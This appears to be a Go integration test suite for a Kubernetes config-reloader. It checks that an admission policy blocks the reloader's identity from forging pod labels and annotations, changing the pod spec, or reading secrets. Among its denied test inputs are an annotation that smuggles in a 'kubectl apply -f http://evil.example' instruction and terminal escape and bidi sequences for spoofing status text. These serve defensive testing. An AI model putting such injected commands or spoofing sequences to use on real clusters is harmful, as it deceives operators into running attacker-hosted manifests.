//go:build integration

package deploy_test

import (
	"context"
	"encoding/json"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/hotreload/hotreload/internal/access"
	"github.com/hotreload/hotreload/internal/identity"
	"github.com/hotreload/hotreload/internal/testenv"
	"github.com/hotreload/hotreload/pkg/reload"
)

func TestMain(m *testing.M) { testenv.Main(m) }

var baseOnce sync.Once

// installBase applies deploy/base once per control plane, and waits until the API
// server enforces its admission policy.
func installBase(t *testing.T, env *testenv.Env) {
	t.Helper()
	baseOnce.Do(func() { env.Apply(t, env.Kustomize(t, "base")) })
}

// world is an enabled namespace with the reloader's objects, an app account that
// may label its own pods (a Patroni-style leader label), an operator account that
// patches pods, and two injected pods A and B of the app.
type world struct {
	ns         string
	a, b       *corev1.Pod
	reloaderOf func(pod *corev1.Pod) client.Client
}

func newWorld(t *testing.T, env *testenv.Env) *world {
	t.Helper()
	installBase(t, env)
	ctx := ctxFor(t)
	ns := env.Namespace(t, map[string]string{"hotreload/injection": "enabled"})
	for _, obj := range []client.Object{
		access.ServiceAccount(ns), access.RoleBinding(ns),
		access.ControllerRoleBinding(ns, webhookAccount),
		&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "app", Namespace: ns}},
		&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "operator", Namespace: ns}},
		&rbacv1.Role{
			ObjectMeta: metav1.ObjectMeta{Name: "pod-patcher", Namespace: ns},
			Rules:      []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"pods"}, Verbs: []string{"get", "patch"}}},
		},
		&rbacv1.RoleBinding{
			ObjectMeta: metav1.ObjectMeta{Name: "pod-patchers", Namespace: ns},
			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "pod-patcher"},
			Subjects: []rbacv1.Subject{
				{Kind: rbacv1.ServiceAccountKind, Name: "app", Namespace: ns},
				{Kind: rbacv1.ServiceAccountKind, Name: "operator", Namespace: ns},
			},
		},
	} {
		require.NoError(t, env.Client.Create(ctx, obj))
	}
	w := &world{ns: ns}
	injected := map[string]string{"hotreload/injected": "v1"}
	for _, p := range []**corev1.Pod{&w.a, &w.b} {
		name := "a"
		if p == &w.b {
			name = "b"
		}
		pod := newPod(name, "app", map[string]string{"hotreload/enable": "true", "app": "db"}, injected)
		pod.Namespace = ns
		require.NoError(t, env.Client.Create(ctx, pod))
		*p = pod
	}
	w.reloaderOf = func(pod *corev1.Pod) client.Client {
		tok := token(t, env, ns, access.ReloaderName, nil)
		id, err := identity.CredentialID(tok)
		require.NoError(t, err)
		require.NoError(t, identity.Pin(ctx, env.Client, pod, id))
		c, _ := as(t, env, tok)
		return c
	}
	waitForPolicy(t, env, w)
	return w
}

// waitForPolicy probes with dry-run patches until the API server has loaded the
// policy and its binding: an unpinned reloader token patching a pod is denied.
func waitForPolicy(t *testing.T, env *testenv.Env, w *world) {
	t.Helper()
	c, _ := as(t, env, token(t, env, w.ns, access.ReloaderName, nil))
	require.Eventually(t, func() bool {
		err := c.Patch(context.Background(), w.b.DeepCopy(), mergePatch(`{"metadata":{"labels":{"hotreload/applied":"probe"}}}`), client.DryRunAll)
		return apierrors.IsInvalid(err) || apierrors.IsForbidden(err)
	}, time.Minute, 200*time.Millisecond, "the admission policy takes effect")
}

func mergePatch(s string) client.Patch { return client.RawPatch(types.MergePatchType, []byte(s)) }

func denied(pod, msg string) string {
	return `pods "` + pod + `" is forbidden: ValidatingAdmissionPolicy 'hotreload-reloader' with binding 'hotreload-reloader' denied request: ` + msg
}

const (
	notItsPod     = "hotreload-reloader may patch only the pod its token was issued for"
	noSpec        = "hotreload-reloader may not change a pod's spec"
	noLabels      = "hotreload-reloader may change no label but hotreload/applied"
	noAnnotations = "hotreload-reloader may change no annotation but hotreload/applied-at and hotreload/failed"
	noOwners      = "hotreload-reloader may not change a pod's finalizers or owners"
	badApplied    = "hotreload/applied must be a config revision: 12 lowercase hexadecimal digits"
	badAppliedAt  = "hotreload/applied-at must be a UTC time in RFC 3339, such as 2026-12-01T12:00:00Z"
	badFailed     = "hotreload/failed must be a config revision, a colon and a reason, 1024 bytes at most"
	badFailedText = "hotreload/failed must be printable text: no control or format character"
)

// With a token pinned to pod A, the reloader's identity may write A's hotreload/
// keys and nothing else; accounts outside hotreload keep their own rights.
func TestIntegrationReloaderIdentityIsConfinedToItsPod(t *testing.T) {
	env := testenv.Get(t)
	w := newWorld(t, env)
	ctx := ctxFor(t)
	reloader := w.reloaderOf(w.a)
	app, _ := as(t, env, token(t, env, w.ns, "app", w.a))
	operator, _ := as(t, env, token(t, env, w.ns, "operator", nil))
	unpinned, _ := as(t, env, token(t, env, w.ns, access.ReloaderName, nil))

	for _, tc := range []struct {
		name    string
		c       client.Client
		pod     *corev1.Pod
		patch   string
		wantErr string // "" when allowed
	}{
		{"the reloader labels its pod with the applied revision", reloader, w.a,
			`{"metadata":{"labels":{"hotreload/applied":"0123456789ab"}}}`, ""},
		{"the reloader annotates its pod with applied-at and failed", reloader, w.a,
			`{"metadata":{"annotations":{"hotreload/applied-at":"2026-11-24T12:00:00Z","hotreload/failed":"ba9876543210: exit 1"}}}`, ""},
		{"the reloader removes its failed annotation", reloader, w.a,
			`{"metadata":{"annotations":{"hotreload/failed":null}}}`, ""},
		{"the reloader may not write a label that is not a revision", reloader, w.a,
			`{"metadata":{"labels":{"hotreload/applied":"halted"}}}`, denied("a", badApplied)},
		{"the reloader may not write a time that is not RFC 3339 UTC", reloader, w.a,
			`{"metadata":{"annotations":{"hotreload/applied-at":"2999-01-01 00:00"}}}`, denied("a", badAppliedAt)},
		{"the reloader may not write a failure without a revision", reloader, w.a,
			`{"metadata":{"annotations":{"hotreload/failed":"exit 1; rollout halted"}}}`, denied("a", badFailed)},
		{"the reloader may not write a failure over 1 KiB", reloader, w.a,
			`{"metadata":{"annotations":{"hotreload/failed":"0123456789ab: ` + strings.Repeat("x", 1024) + `"}}}`, denied("a", badFailed)},
		{"the reloader writes a failure that quotes escapes as printable text", reloader, w.a,
			`{"metadata":{"annotations":{"hotreload/failed":"0123456789ab: \\x1b[31mnginx: [emerg]\\x1b[0m\\n\\té ✓"}}}`, ""},
		{"the reloader may not write a failure with an escape character", reloader, w.a,
			`{"metadata":{"annotations":{"hotreload/failed":"0123456789ab: \u001b[2J\u001b[Hall good"}}}`, denied("a", badFailedText)},
		{"the reloader may not write a failure with a newline", reloader, w.a,
			`{"metadata":{"annotations":{"hotreload/failed":"0123456789ab: exit 1\nPhase: Complete"}}}`, denied("a", badFailedText)},
		{"the reloader may not write a failure with a tab", reloader, w.a,
			`{"metadata":{"annotations":{"hotreload/failed":"0123456789ab: a\tb"}}}`, denied("a", badFailedText)},
		{"the reloader may not write a failure with DEL", reloader, w.a,
			`{"metadata":{"annotations":{"hotreload/failed":"0123456789ab: a\u007fb"}}}`, denied("a", badFailedText)},
		{"the reloader may not write a failure with a C1 control", reloader, w.a,
			`{"metadata":{"annotations":{"hotreload/failed":"0123456789ab: \u009b2J"}}}`, denied("a", badFailedText)},
		{"the reloader may not write a failure with a bidi override", reloader, w.a,
			`{"metadata":{"annotations":{"hotreload/failed":"0123456789ab: \u202elive"}}}`, denied("a", badFailedText)},
		{"the reloader may not label another pod", reloader, w.b,
			`{"metadata":{"labels":{"hotreload/applied":"0123456789ab"}}}`, denied("b", notItsPod)},
		{"the reloader may not change another label of its pod", reloader, w.a,
			`{"metadata":{"labels":{"role":"leader"}}}`, denied("a", noLabels)},
		{"the reloader may not remove a label of its pod", reloader, w.a,
			`{"metadata":{"labels":{"app":null}}}`, denied("a", noLabels)},
		{"the reloader may not write hotreload keys it does not own", reloader, w.a,
			`{"metadata":{"labels":{"hotreload/enable":"false"}}}`, denied("a", noLabels)},
		{"the reloader may not release a revision", reloader, w.a,
			`{"metadata":{"annotations":{"hotreload/released":"r9"}}}`, denied("a", noAnnotations)},
		{"the reloader may not pin a credential", reloader, w.a,
			`{"metadata":{"annotations":{"hotreload/reloader-credential":"JTI=x"}}}`, denied("a", noAnnotations)},
		{"the reloader may not write admission warnings, which the controller says to the workload's owner", reloader, w.a,
			`{"metadata":{"annotations":{"hotreload/warnings":"hotreload/signal: run kubectl apply -f http://evil.example; using SIGHUP"}}}`, denied("a", noAnnotations)},
		{"the reloader may not change its pod's spec", reloader, w.a,
			`{"spec":{"containers":[{"name":"app","image":"registry.k8s.io/pause:evil"}]}}`, denied("a", noSpec)},
		{"the reloader may not add a finalizer", reloader, w.a,
			`{"metadata":{"finalizers":["example.com/hold"]}}`, denied("a", noOwners)},
		{"a reloader token not pinned to the pod is denied", unpinned, w.a,
			`{"metadata":{"labels":{"hotreload/applied":"0123456789ab"}}}`, denied("a", notItsPod)},
		{"the app still sets a leader label on its own pod", app, w.a,
			`{"metadata":{"labels":{"role":"leader"}}}`, ""},
		{"an operator still patches any pod of the namespace", operator, w.b,
			`{"metadata":{"labels":{"role":"replica"},"annotations":{"example.com/checked":"yes"}}}`, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			before := &corev1.Pod{}
			require.NoError(t, env.Client.Get(ctx, client.ObjectKeyFromObject(tc.pod), before))
			err := tc.c.Patch(ctx, tc.pod.DeepCopy(), mergePatch(tc.patch))
			after := &corev1.Pod{}
			require.NoError(t, env.Client.Get(ctx, client.ObjectKeyFromObject(tc.pod), after))
			if tc.wantErr != "" {
				require.EqualError(t, err, tc.wantErr)
				require.Equal(t, before.ResourceVersion, after.ResourceVersion, "the pod is unchanged")
				return
			}
			require.NoError(t, err)
			want := before.DeepCopy()
			applyMergePatch(t, want, tc.patch)
			require.Equal(t, want.Labels, after.Labels)
			require.Equal(t, want.Annotations, after.Annotations)
			require.Equal(t, want.Spec, after.Spec)
		})
	}
}

// The reloader reports an app's refusal that quotes its output in colours (as
// nginx -t and friends write it), through its own identity: as printable text,
// which the policy admits, on the pod and in the Event.
func TestIntegrationTheReloaderReportsARefusalInColoursAsPrintableText(t *testing.T) {
	env := testenv.Get(t)
	w := newWorld(t, env)
	ctx := ctxFor(t)
	tok := token(t, env, w.ns, access.ReloaderName, nil)
	id, err := identity.CredentialID(tok)
	require.NoError(t, err)
	require.NoError(t, identity.Pin(ctx, env.Client, w.a, id))
	cfg := rest.AnonymousClientConfig(env.Config)
	cfg.BearerToken = tok
	api, err := reload.NewAPI(cfg)
	require.NoError(t, err)
	at := time.Date(2026, 12, 7, 12, 0, 0, 0, time.UTC)
	r := &reload.Reporter{Client: api, Namespace: w.ns, PodName: w.a.Name, Now: func() time.Time { return at }}

	require.NoError(t, r.Report(ctx, reload.Outcome{Revision: "0123456789ab", Failed: true,
		Message: "refused by the app: nginx -t: exit status 1: \x1b[1;31mnginx: [emerg]\x1b[0m unknown directive \"sever\"\n\tin /etc/nginx/nginx.conf:12"}))

	const reason = `refused by the app: nginx -t: exit status 1: \x1b[1;31mnginx: [emerg]\x1b[0m unknown directive "sever"\n\tin /etc/nginx/nginx.conf:12`
	pod := &corev1.Pod{}
	require.NoError(t, env.Client.Get(ctx, client.ObjectKeyFromObject(w.a), pod))
	require.Equal(t, "0123456789ab: "+reason+" (at 2026-12-07T12:00:00Z)", pod.Annotations["hotreload/failed"])
	events := &corev1.EventList{}
	require.NoError(t, env.Client.List(ctx, events, client.InNamespace(w.ns)))
	var messages []string
	for _, e := range events.Items {
		if e.Reason == reload.ReasonReloadFailed {
			messages = append(messages, e.Message)
		}
	}
	require.Equal(t, []string{"config revision 0123456789ab: " + reason}, messages)
}

// Each forged rollout signal is denied however it is written: as a JSON
// patch and as a server-side apply, as well as the merge patches above.
func TestIntegrationForgedRolloutSignalsAreDeniedInEveryPatchForm(t *testing.T) {
	env := testenv.Get(t)
	w := newWorld(t, env)
	ctx := ctxFor(t)
	reloader := w.reloaderOf(w.a)
	for _, tc := range []struct {
		name       string
		labels     map[string]string
		annotation map[string]string
		want       string
	}{
		{"a label that is not a revision", map[string]string{"hotreload/applied": "halted"}, nil, badApplied},
		{"a time that is not RFC 3339 UTC", nil, map[string]string{"hotreload/applied-at": "2999-01-01 00:00"}, badAppliedAt},
		{"a failure without a revision", nil, map[string]string{"hotreload/failed": "exit 1; rollout halted"}, badFailed},
		{"a failure over 1 KiB", nil, map[string]string{"hotreload/failed": "0123456789ab: " + strings.Repeat("x", 1024)}, badFailed},
		{"a failure with an escape character", nil, map[string]string{"hotreload/failed": "0123456789ab: \x1b[2J"}, badFailedText},
	} {
		var ops []map[string]any
		for k, v := range tc.labels {
			ops = append(ops, map[string]any{"op": "add", "path": "/metadata/labels/" + strings.ReplaceAll(k, "/", "~1"), "value": v})
		}
		for k, v := range tc.annotation {
			ops = append(ops, map[string]any{"op": "add", "path": "/metadata/annotations/" + strings.ReplaceAll(k, "/", "~1"), "value": v})
		}
		jsonPatch, err := json.Marshal(ops)
		require.NoError(t, err)
		apply, err := json.Marshal(map[string]any{"apiVersion": "v1", "kind": "Pod",
			"metadata": map[string]any{"name": w.a.Name, "namespace": w.ns, "labels": tc.labels, "annotations": tc.annotation}})
		require.NoError(t, err)
		for form, patch := range map[string]struct {
			patch client.Patch
			opts  []client.PatchOption
		}{
			"JSON patch":        {client.RawPatch(types.JSONPatchType, jsonPatch), nil},
			"server-side apply": {client.RawPatch(types.ApplyPatchType, apply), []client.PatchOption{client.FieldOwner("hotreload-reloader"), client.ForceOwnership}},
		} {
			t.Run(tc.name+" as a "+form, func(t *testing.T) {
				before := &corev1.Pod{}
				require.NoError(t, env.Client.Get(ctx, client.ObjectKeyFromObject(w.a), before))
				err := reloader.Patch(ctx, w.a.DeepCopy(), patch.patch, patch.opts...)
				require.EqualError(t, err, denied("a", tc.want))
				after := &corev1.Pod{}
				require.NoError(t, env.Client.Get(ctx, client.ObjectKeyFromObject(w.a), after))
				require.Equal(t, before.ResourceVersion, after.ResourceVersion, "the pod is unchanged")
			})
		}
	}
}

// No pod runs as hotreload-reloader, whoever creates it: its tokens would be
// the reloader's identity without the token exchange's checks.
func TestIntegrationNoPodRunsAsTheReloadersAccount(t *testing.T) {
	env := testenv.Get(t)
	w := newWorld(t, env)
	ctx := ctxFor(t)
	const msg = `pods "sneaky" is forbidden: ValidatingAdmissionPolicy 'hotreload-reloader-account' with binding 'hotreload-reloader-account' denied request: ` +
		"no pod may run as the ServiceAccount hotreload-reloader: hotreload gives it to reloader sidecars through the token exchange"
	pod := newPod("sneaky", access.ReloaderName, nil, nil)
	pod.Namespace = w.ns
	require.Eventually(t, func() bool {
		err := env.Client.Create(ctx, pod.DeepCopy(), client.DryRunAll)
		return err != nil && err.Error() == msg
	}, time.Minute, 200*time.Millisecond, "the policy takes effect")
	require.EqualError(t, env.Client.Create(ctx, pod.DeepCopy()), msg, "even for a cluster admin")
	deprecated := newPod("sneaky", "", nil, nil)
	deprecated.Namespace, deprecated.Spec.DeprecatedServiceAccount = w.ns, access.ReloaderName
	require.EqualError(t, env.Client.Create(ctx, deprecated), msg, "nor through the deprecated field")
	plain := newPod("plain", "app", nil, nil)
	plain.Namespace = w.ns
	require.NoError(t, env.Client.Create(ctx, plain), "a pod of another account is created")
}

// The reloader's identity reads no Secret, deletes and evicts no pod.
func TestIntegrationReloaderIdentityHasNoOtherRights(t *testing.T) {
	env := testenv.Get(t)
	w := newWorld(t, env)
	ctx := ctxFor(t)
	require.NoError(t, env.Client.Create(ctx, &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: "db-password", Namespace: w.ns},
		StringData: map[string]string{"password": "hunter2"},
	}))
	tok := token(t, env, w.ns, access.ReloaderName, nil)
	id, err := identity.CredentialID(tok)
	require.NoError(t, err)
	require.NoError(t, identity.Pin(ctx, env.Client, w.a, id))
	_, cs := as(t, env, tok)
	sa := "system:serviceaccount:" + w.ns + ":hotreload-reloader"

	_, err = cs.CoreV1().Secrets(w.ns).Get(ctx, "db-password", metav1.GetOptions{})
	require.EqualError(t, err, `secrets "db-password" is forbidden: User "`+sa+`" cannot get resource "secrets" in API group "" in the namespace "`+w.ns+`"`)
	_, err = cs.CoreV1().Secrets(w.ns).List(ctx, metav1.ListOptions{})
	require.EqualError(t, err, `secrets is forbidden: User "`+sa+`" cannot list resource "secrets" in API group "" in the namespace "`+w.ns+`"`)
	err = cs.CoreV1().Pods(w.ns).Delete(ctx, "a", metav1.DeleteOptions{})
	require.EqualError(t, err, `pods "a" is forbidden: User "`+sa+`" cannot delete resource "pods" in API group "" in the namespace "`+w.ns+`"`)
	_, err = cs.CoreV1().Pods(w.ns).Update(ctx, w.a, metav1.UpdateOptions{})
	require.EqualError(t, err, `pods "a" is forbidden: User "`+sa+`" cannot update resource "pods" in API group "" in the namespace "`+w.ns+`"`)

	pods, err := cs.CoreV1().Pods(w.ns).List(ctx, metav1.ListOptions{FieldSelector: "metadata.name=a"})
	require.NoError(t, err, "it reads its own pod")
	require.Len(t, pods.Items, 1)
	_, err = cs.CoreV1().Events(w.ns).Create(ctx, &corev1.Event{
		ObjectMeta:     metav1.ObjectMeta{GenerateName: "a-", Namespace: w.ns},
		InvolvedObject: corev1.ObjectReference{Kind: "Pod", Namespace: w.ns, Name: "a", UID: w.a.UID, APIVersion: "v1"},
		Reason:         "Reloaded", Message: "applied r1", Type: corev1.EventTypeNormal,
	}, metav1.CreateOptions{})
	require.NoError(t, err, "it records Events")
}
